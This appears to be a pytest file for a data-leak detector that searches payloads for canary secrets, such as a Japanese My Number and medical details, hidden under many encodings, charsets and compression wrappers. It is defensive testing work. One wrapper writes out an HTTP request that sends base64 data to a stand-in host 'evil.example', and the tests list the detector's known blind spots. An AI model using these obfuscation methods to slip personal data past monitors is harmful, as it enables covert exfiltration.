"""The encoding matrix: how a secret is written, in which character set, in which wrapper."""

from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import gzip
import hashlib
import html
import io
import json
import lzma
import quopri
import zipfile
import zlib
from collections.abc import Callable
from email.header import Header
from random import Random
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hiyari.monitor import Facts
from hiyari.monitors.decoding.fold import fold
from hiyari.monitors.decoding.needles import Needle, needle
from hiyari.monitors.decoding.search import search
from hiyari.scenario.draw import Drawn

WIDE = str.maketrans("0123456789", "０１２３４５６７８９")
KANJI = str.maketrans("0123456789", "〇一二三四五六七八九")
DAIJI = str.maketrans("0123456789", "零壱弐参肆伍陸漆捌玖")
CIRCLED = str.maketrans("0123456789", "⓪①②③④⑤⑥⑦⑧⑨")
MATHS = str.maketrans("0123456789", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def parts(number: str, between: str) -> str:
    """Write a number in three groups."""
    return between.join((number[:4], number[4:8], number[8:]))


FORMS: dict[str, Callable[[str], str]] = {
    "plain": lambda n: n,
    "dashed": lambda n: parts(n, "-"),
    "chōonpu": lambda n: parts(n, "ー"),
    "ideographic space": lambda n: parts(n, "\u3000"),
    "zero width": lambda n: "\u200b".join(n),
    "full width": lambda n: n.translate(WIDE),
    "kanji": lambda n: n.translate(KANJI),
    "daiji": lambda n: n.translate(DAIJI),
    "circled": lambda n: n.translate(CIRCLED),
    "mathematical": lambda n: n.translate(MATHS),
    "arabic-indic": lambda n: n.translate(ARABIC),
    "keycap": lambda n: "".join(f"{d}\ufe0f\u20e3" for d in n),
    "reversed": lambda n: n[::-1],
    "one digit a line": lambda n: "\n".join(n),
    "unicode tags": lambda n: "".join(chr(0xE0000 + ord(d)) for d in n),
}
READ = ("zero", "ichi", "ni", "san", "yon", "go", "roku", "nana", "hachi", "kyu")
COMMON = ("plain", "dashed", "full width", "kanji")
CHARSETS = ("utf-8", "cp932", "euc_jp", "iso2022_jp", "utf_7", "utf_16", "utf_16_le", "utf_16_be", "utf_32")


def zipped(data: bytes) -> bytes:
    """Put bytes into a zip archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("data.csv", data)
    return packed.getvalue()


WRAPPERS: dict[str, Callable[[bytes], bytes]] = {
    "none": lambda b: b"memo=" + b + b"&ok=1",
    "base64": base64.b64encode,
    "base64 in text": lambda b: b"GET /i.png?d=x" + base64.b64encode(b) + b" HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "base64 url-safe": base64.urlsafe_b64encode,
    "base64 twice": lambda b: base64.b64encode(base64.b64encode(b)),
    "base64 lines": base64.encodebytes,
    "base32": base64.b32encode,
    "hex": lambda b: b.hex().encode(),
    "hex spaced": lambda b: b.hex(" ").encode(),
    "\\x": lambda b: "".join(f"\\x{c:02x}" for c in b).encode(),
    "percent": lambda b: quote(b, safe="").encode(),
    "percent twice": lambda b: quote(quote(b, safe="")).encode(),
    "quoted-printable": quopri.encodestring,
    "gzip": gzip.compress,
    "zlib": zlib.compress,
    "zip": zipped,
    "gzip in base64": lambda b: base64.b64encode(gzip.compress(b)),
    "zlib in hex": lambda b: zlib.compress(b).hex().encode(),
    "decimal": lambda b: " ".join(str(c) for c in b).encode(),
}
HELD_OUT: dict[str, Callable[[bytes], bytes]] = {
    "uuencode": lambda b: b"".join(binascii.b2a_uu(b[i : i + 45]) for i in range(0, len(b), 45)),
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "binary digits": lambda b: "".join(f"{c:08b}" for c in b).encode(),
    "multipart upload": lambda b: b'--x\r\nContent-Disposition: form-data; name="f"\r\n\r\n' + zipped(b) + b"\r\n--x--",
    "JSON of base64": lambda b: json.dumps({"a": {"data": base64.b64encode(b).decode()}}).encode(),
}


@pytest.fixture(scope="module")
def needles(facts: Facts) -> list[Needle]:
    """What is looked for."""
    return [needle(canary, facts.variables) for canary in facts.canaries]


def written(form: str, charset: str, number: str) -> bytes | None:
    """Write a number, or return none where the character set has no such characters."""
    try:
        return f"個人番号は{FORMS[form](number)}です".encode(charset)
    except UnicodeEncodeError:
        return None


@pytest.mark.parametrize("wrapper", [*WRAPPERS, *HELD_OUT])
def test_every_form_in_every_character_set_is_found(wrapper: str, needles: list[Needle], drawn: Drawn) -> None:
    """A My Number is found whatever the form, the character set and the wrapper."""
    wrap = {**WRAPPERS, **HELD_OUT}[wrapper]
    tried, missed = 0, []
    for form in FORMS:
        for charset in CHARSETS if form in COMMON else ("utf-8", "cp932", "utf_16_le"):
            data = written(form, charset, drawn.values["number"])
            if data is None:
                continue
            tried += 1
            if "number" not in {match.canary.name for match in search(wrap(data), needles)}:
                missed.append((form, charset))
    assert tried > 50
    assert missed == []


@pytest.mark.parametrize("wrapper", [*WRAPPERS, *HELD_OUT])
def test_special_care_sentences_are_found(wrapper: str, needles: list[Needle], drawn: Drawn) -> None:
    """A sentence of special-care data is found in both languages and in every Japanese character set."""
    wrap = {**WRAPPERS, **HELD_OUT}[wrapper]
    missed = []
    for name in ("history", "history_en", "history_token"):
        for charset in ("utf-8", "cp932", "euc_jp", "iso2022_jp", "utf_16_le"):
            data = drawn.values[name].encode(charset)
            if "history" not in {match.canary.name for match in search(wrap(data), needles)}:
                missed.append((name, charset))
    assert missed == []


def test_text_level_encodings_are_found(needles: list[Needle], drawn: Drawn) -> None:
    """Escapes, entities, tags, MIME words, code points and base58 of a text are seen through."""
    number = drawn.values["number"]
    wide = number.translate(WIDE)
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    value, base58 = int.from_bytes(number.encode(), "big"), ""
    while value:
        value, digit = divmod(value, 58)
        base58 = alphabet[digit] + base58
    samples = {
        "json escapes": json.dumps({"m": wide}),
        "u escapes": "".join(f"\\u{{{ord(c):04x}}}" for c in number),
        "octal": "".join(f"\\{ord(c):03o}" for c in number),
        "entities": "".join(f"&#{ord(c)};" for c in wide),
        "hex entities": "".join(f"&#x{ord(c):x};" for c in number),
        "tags": "".join(f"<b>{c}</b>" for c in number),
        "named entity": html.escape(number).replace("-", "&shy;"),
        "mime word": Header(f"番号 {wide}", "iso-2022-jp").encode(),
        "mime q": "=?utf-8?Q?" + "".join(f"={b:02X}" for b in wide.encode()) + "?=",
        "code points": ",".join(str(ord(c)) for c in wide),
        "bare jis": "".join(f"#{c}" for c in number),
        "letters between": "".join(f"{c}x" for c in number),
        "base58": base58,
        "rot13": codecs.encode(drawn.values["key"], "rot13"),
        "rot13 in base64": base64.b64encode(codecs.encode(drawn.values["history_en"], "rot13").encode()).decode(),
        "selectors": "hi" + "".join(chr(0xFE00 + b if b < 16 else 0xE0100 + b - 16) for b in number.encode()),
    }
    missed = [name for name, text in samples.items() if not search(text.encode(), needles)]
    assert missed == []


@pytest.mark.parametrize("charset", ["utf-8", "cp932", "euc_jp", "utf_16_le", "utf_16_be"])
def test_a_one_byte_key_hides_nothing(charset: str, needles: list[Needle], drawn: Drawn) -> None:
    """A secret under any one-byte exclusive-or is found, in base64 too."""
    for name, form in (("number", drawn.values["number"]), ("history", drawn.values["history"])):
        for key in (1, 0x20, 0x5A, 0xFF):
            data = b"junk" + bytes(c ^ key for c in form.encode(charset)) + b"junk"
            assert name in {match.canary.name for match in search(data, needles)}
            assert name in {match.canary.name for match in search(base64.b64encode(data), needles)}


def test_a_person_beside_a_condition_is_a_leak_without_the_sentence(needles: list[Needle], drawn: Drawn) -> None:
    """The subject's name with the condition is found in either language; either alone is not."""
    hanako, condition = drawn.values["hanako"], drawn.values["history_condition"]
    assert [m.canary.name for m in search(f"{hanako['name']}さんは{condition}です".encode(), needles)] == ["history"]
    english = f"{hanako['name_en']} suffers from {drawn.values['history_condition_en']}"
    assert [m.canary.name for m in search(english.encode(), needles)] == ["history"]
    assert search(condition.encode(), needles) == []
    assert search(hanako["name"].encode(), needles) == []


def test_the_chain_is_the_shortest_that_shows_the_secret(needles: list[Needle], drawn: Drawn) -> None:
    """The chain names every layer from the outside in."""
    data = base64.b64encode(gzip.compress(drawn.values["number"].encode("utf_16_le")))
    (match,) = search(data, needles)
    assert match.chain == ("base64", "gzip", "utf_16_le")
    (match,) = search(drawn.values["number"].encode(), needles)
    assert match.chain == ()


def test_what_cannot_be_seen_is_known(needles: list[Needle], drawn: Drawn) -> None:
    """Arithmetic on digits and digits spelt out are out of reach, as the documentation says."""
    number = drawn.values["number"]
    shifted = "".join(str((int(d) + 1) % 10) for d in number)
    spelt = " ".join(READ[int(d)] for d in number)
    assert search(shifted.encode(), needles) == []
    assert search(spelt.encode(), needles) == []


def benign() -> list[bytes]:
    """Build payloads of business traffic without any secret."""
    random = Random(613)
    words = [
        "order",
        "在庫",
        "出荷",
        "部品",
        "status",
        "株式会社",
        "2026-04-06T09:00:00+09:00",
        "確認しました",
        "お疲れ様です",
    ]

    def text(length: int) -> str:
        return " ".join(random.choice(words) for _ in range(length))

    def numbers(length: int) -> str:
        return "".join(random.choice("0123456789") for _ in range(length))

    makers: list[Callable[[], bytes]] = [
        lambda: hashlib.sha256(random.randbytes(8)).hexdigest().encode(),
        lambda: base64.b64encode(random.randbytes(300)),
        lambda: base64.b64encode(text(40).encode()),
        lambda: base64.urlsafe_b64encode(random.randbytes(200)),
        lambda: "\n".join(f"49{numbers(11)}" for _ in range(20)).encode(),
        lambda: "\n".join(str(1_775_000_000_000 + random.randrange(10**9)) for _ in range(20)).encode(),
        lambda: "\n".join(numbers(12) for _ in range(20)).encode(),
        lambda: json.dumps({"rows": [{"id": numbers(8), "memo": text(6)} for _ in range(8)]}).encode(),
        lambda: json.dumps({"memo": text(30)}, ensure_ascii=False).encode(),
        lambda: text(60).encode("cp932"),
        lambda: text(60).encode("iso2022_jp"),
        lambda: gzip.compress(text(80).encode()),
        lambda: random.randbytes(500),
        lambda: (
            f"GET /?q={quote(text(8))} HTTP/1.1\r\nHost: shop.example\r\n".encode()
            + f"Cookie: {random.randbytes(30).hex()}\r\n\r\n".encode()
        ),
        lambda: f"090-0{numbers(3)}-{numbers(4)} TK-{numbers(10)}".encode(),
    ]
    return [make() for make in makers for _ in range(41)]


def test_benign_traffic_raises_nothing(needles: list[Needle]) -> None:
    """No hash, code, time stamp or business text is taken for a secret."""
    payloads = benign()
    assert len(payloads) >= 600
    assert [payload for payload in payloads if search(payload, needles)] == []


@given(st.binary(max_size=600))
@settings(max_examples=60, deadline=None)
def test_any_bytes_can_be_searched(data: bytes) -> None:
    """No input makes the search raise, and an empty list of secrets finds nothing."""
    assert search(data, []) == []


@given(st.text(max_size=200))
@settings(max_examples=60, deadline=None)
def test_folding_twice_changes_nothing(text: str) -> None:
    """Folding is idempotent, so needles and text meet in one form."""
    assert fold(fold(text)) == fold(text)


def test_a_bomb_is_cut(needles: list[Needle]) -> None:
    """Compressed zeros are unpacked up to a cap only, and search goes on after them."""
    assert search(gzip.compress(bytes(50_000_000)), needles) == []


def test_a_secret_deep_in_a_large_upload_is_found(needles: list[Needle], drawn: Drawn) -> None:
    """Windows overlap, so a secret at any place of a large payload is found."""
    data = b"x" * 300_000 + drawn.values["number"].encode("utf_16_be") + b"y" * 100_000
    assert [match.canary.name for match in search(data, needles)] == ["number"]
